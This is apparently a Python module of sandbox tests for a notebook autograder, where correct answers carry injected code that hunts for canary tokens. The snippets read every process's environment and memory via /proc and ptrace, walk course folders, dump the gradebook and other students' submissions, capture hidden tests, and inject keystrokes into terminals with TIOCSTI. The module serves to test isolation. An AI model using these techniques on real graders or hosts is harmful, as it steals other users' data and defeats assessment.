"""Right answers that look around on the way, and print what they find. Nothing secret may be among it."""

from . import Attack
from .assignment import ANSWERS

# Prints every canary that it finds; only those that the machine has, for the sources spell none of them out
LOOT = """
import glob, os, re, sys
TOKEN = re.compile(rb"CANARY" + rb"[a-z]+")
def loot(data, where):
    for token in sorted(set(TOKEN.findall(data))):
        print("found", token.decode(), where)
def look(path, size=1 << 24):
    try:
        with open(path, "rb") as file: loot(file.read(size), path)
    except Exception: pass
"""
READABLE = "a plain assert runs beside the answer, which can read it; the checks of exercises never are there"


def search(slug, what, source, **more):
    """A right preactivation after a search."""
    return Attack(slug, what, {"preactivation": f"{LOOT}\n{source}\n{ANSWERS['preactivation']}"}, **more)


ENVIRONMENT = """
loot(repr(dict(os.environ)).encode(), "environ")
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"): look(path)
"""
TREE = """
for folder in ("@COURSE@", "/proc/self/cwd", "/proc/1/root@COURSE@", "/proc/self/root/..@COURSE@", "/root", "/home"):
    for parent, folders, files in os.walk(folder):
        if parent.count("/") > 12: continue
        for name in files:
            if name.endswith((".ipynb", ".db", "secret", ".py", ".json", ".jsonl", "untouched")): look(os.path.join(parent, name))
"""
GRADEBOOK = """
import sqlite3
try:
    db = sqlite3.connect("@COURSE@/gradebook.db")
    for table, in db.execute("select name from sqlite_master where type='table'").fetchall():
        loot(repr(db.execute(f"select * from [{table}]").fetchall()).encode(), table)
except Exception: pass
look("@COURSE@/gradebook.db")
"""
NEIGHBOURS = """
for path in glob.glob("@COURSE@/submitted/*/*/*") + glob.glob("@COURSE@/autograded/*/*/*"): look(path)
"""
PARENT_MEMORY = """
for pid in {1, os.getppid(), os.getpid() - 1}:
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                span, rights = line.split()[:2]
                begin, end = (int(x, 16) for x in span.split("-"))
                if "r" in rights and end - begin < 1 << 26 and pid != os.getpid():
                    memory.seek(begin)
                    try: loot(memory.read(end - begin), f"memory of {pid}")
                    except Exception: pass
    except Exception: pass
"""
PTRACE = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1):
    if libc.ptrace(16, pid, None, None) == 0: print("found CANARY" "tracing")
class Span(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(4096)
here, there = Span(ctypes.addressof(buffer), 4096), Span(id(os), 4096)
if os.getppid() and libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
    print("found CANARY" "memory")
"""
OBJECTS = """
import gc
for thing in gc.get_objects():
    try:
        if type(thing) in (dict, list, tuple): loot(repr(thing)[:1 << 20].encode(), "an object")
    except BaseException: pass
for name, module in list(sys.modules.items()):
    try: loot(repr(vars(module))[:1 << 20].encode(), name)
    except BaseException: pass
frame = sys._getframe()
while frame is not None:
    loot(repr(frame.f_locals)[:1 << 20].encode(), "a frame")
    frame = frame.f_back
"""
DESCRIPTORS = """
import fcntl, socket
for fd in range(3, 256):
    try:
        os.fstat(fd)
    except OSError: continue
    try:
        os.lseek(fd, 0, 0)
        loot(os.read(fd, 1 << 20), f"fd {fd}")
    except Exception: pass
"""
HIDDEN_TESTS = """
kept = []
get_ipython().events.register("pre_run_cell", lambda info: kept.append(getattr(info, "raw_cell", "") or ""))
"""
HIDDEN_HISTORY = """
def average(values):
    frame = sys._getframe(1)
    while frame is not None:
        import linecache
        loot("".join(linecache.getlines(frame.f_code.co_filename)).encode(), "the caller")
        frame = frame.f_back
    return sum(values) / len(values)
"""
LEAVE = """
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", ".", "..", "/", os.path.expanduser("~"), "/tmp/work"):
    try:
        with open(os.path.join(folder, "left_behind"), "w") as file: file.write("CANARY" + "neighbour")
    except OSError: pass
from multiprocessing import shared_memory
try:
    kept = shared_memory.SharedMemory("left_behind", create=True, size=64)
    kept.buf[:15] = b"CANARY" + b"neighbour"
except Exception: pass
"""
FIND = """
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", ".", "..", "/", os.path.expanduser("~"), "/tmp/work"):
    look(os.path.join(folder, "left_behind"))
"""
TERMINAL = """
import fcntl, termios
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/mem", "/dev/kmem", "/dev/vda", "/dev/sda", "/proc/kcore", "/proc/kallsyms"):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        if path in ("/dev/mem", "/dev/vda", "/dev/sda", "/proc/kcore") and os.read(fd, 16): print("found CANARY" "device", path)
        if path.startswith("/dev/tty"): [fcntl.ioctl(fd, termios.TIOCSTI, c.encode()) for c in "echo CANARY\\n"]
    except OSError: pass
"""
PREDICT = """
import random
state = (random.getrandbits(64), np.random.get_state()[1][0])
loot(repr(state).encode(), "the random state")
"""

ATTACKS = [
    search("environment", "reads the environment of every process", ENVIRONMENT),
    search("whole_tree", "reads tests, solutions, secret and records in the course directory", TREE),
    search("gradebook", "reads the gradebook", GRADEBOOK),
    search("neighbours", "reads the other submissions", NEIGHBOURS),
    search("parent_memory", "reads the memory of the processes that started it", PARENT_MEMORY),
    search("ptrace", "traces the process that started it", PTRACE),
    search("objects", "searches all objects, modules and frames", OBJECTS),
    search("descriptors", "reads every open file", DESCRIPTORS),
    search("devices", "reads devices and types into the terminal", TERMINAL),
    Attack(
        "hidden_tests",
        "prints the hidden tests of a cell of plain asserts",
        {"average": f"{HIDDEN_TESTS}\n{ANSWERS['average']}"},
        own=(("why", "print(kept)"),),
        leaks=("hidden tests",),
        limit=READABLE,
    ),
    Attack(
        "hidden_caller",
        "prints the source of its caller",
        {"average": f"{LOOT}\n{HIDDEN_HISTORY}"},
        limit=READABLE,
    ),
    search("leaves_files", "leaves files and shared memory for the next submission", LEAVE),
    search("finds_files", "looks for what the submission before it has left", FIND),
    search("random_state", "reads the random state, to predict the cases", PREDICT),
    Attack(
        "collects_cases",
        "writes every case that it is asked into its output",
        {
            "preactivation": "seen = []\ndef preactivation(X, w, b):\n    seen.append(X)\n    print(repr(X))\n    return X @ w + b",
            "average": f"print(seen)\n{ANSWERS['average']}",
        },
    ),
]
